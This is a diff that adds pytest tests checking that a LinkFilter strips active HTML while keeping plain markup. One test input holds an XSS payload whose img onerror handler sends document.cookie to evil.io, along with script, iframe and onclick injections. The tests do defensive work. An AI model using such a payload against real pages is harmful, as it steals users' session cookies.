@@ -304,3 +304,25 @@ def test_canary_negatives(text: str) -> None:
 def test_canary_too_short() -> None:
     with pytest.raises(ValueError):
         CanaryScanner("ab-cd")
+
+
+def test_active_html_is_removed_whatever_it_points_at() -> None:
+    lf = LinkFilter(["example.com"])
+    text = (
+        'a <img src="https://example.com/x.png" onerror="fetch(\'//evil.io/\'+document.cookie)"> b '
+        "<script>alert(1)</script> c <iframe src=https://example.com/f></iframe> "
+        '<b onclick=steal()>bold</b> <p class="x">kept</p>'
+    )
+    new, findings = lf.filter(text)
+    assert "onerror" not in new and "<script" not in new and "alert(1)" not in new
+    assert "<iframe" not in new and "onclick" not in new
+    assert '<p class="x">kept</p>' in new and "bold" in new
+    assert {f.category for f in findings} == {"active_html"}
+    assert len(findings) == 4
+
+
+def test_plain_html_and_allowed_images_stay() -> None:
+    lf = LinkFilter(["example.com"])
+    text = '<img src="https://example.com/x.png" alt="ok"> <a href="https://example.com">x</a>'
+    new, findings = lf.filter(text)
+    assert new == text and findings == []
